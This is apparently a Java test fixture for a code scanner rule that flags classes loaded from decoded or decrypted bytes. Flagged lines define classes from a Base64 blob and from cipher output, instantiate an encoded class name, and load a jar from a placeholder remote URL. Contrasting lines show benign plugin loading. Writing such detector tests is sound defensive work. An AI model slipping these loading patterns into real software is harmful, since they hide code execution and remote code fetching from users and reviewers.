// Fixture for java.load-class-from-decoded-bytes (written for provscan; not from any project).
package org.example.plugin;

import java.net.URL;
import java.net.URLClassLoader;
import java.nio.file.Path;
import java.util.Base64;
import javax.crypto.Cipher;

final class StageLoader extends ClassLoader {
  private static final String BLOB = "yv66vgAAADQAHQoABgAPCQAQ";

  Class<?> stage(Cipher cipher, byte[] sealed) throws Exception {
    byte[] raw = Base64.getDecoder().decode(BLOB);
    // ruleid: java.load-class-from-decoded-bytes
    Class<?> a = defineClass(null, Base64.getDecoder().decode(BLOB), 0, raw.length);
    // ruleid: java.load-class-from-decoded-bytes
    Class<?> b = defineClass("x.Y", cipher.doFinal(sealed), 0, 128);
    return a != null ? a : b;
  }

  Object named(String encoded) throws Exception {
    // ruleid: java.load-class-from-decoded-bytes
    return Class.forName(new String(Base64.getDecoder().decode(encoded))).getDeclaredConstructor().newInstance();
  }

  ClassLoader remote() throws Exception {
    // ruleid: java.load-class-from-decoded-bytes
    return new URLClassLoader(new URL[] {new URL("http://cdn.example.invalid/u.jar")});
  }

  Class<?> plugin(String className, Path jar) throws Exception {
    // ok: java.load-class-from-decoded-bytes
    URLClassLoader loader = new URLClassLoader(new URL[] {jar.toUri().toURL()});
    // ok: java.load-class-from-decoded-bytes
    return Class.forName(className, true, loader);
  }

  @Override
  protected Class<?> findClass(String name) throws ClassNotFoundException {
    byte[] bytes = Resources.classBytes(name);
    // ok: java.load-class-from-decoded-bytes
    return defineClass(name, bytes, 0, bytes.length);
  }
}
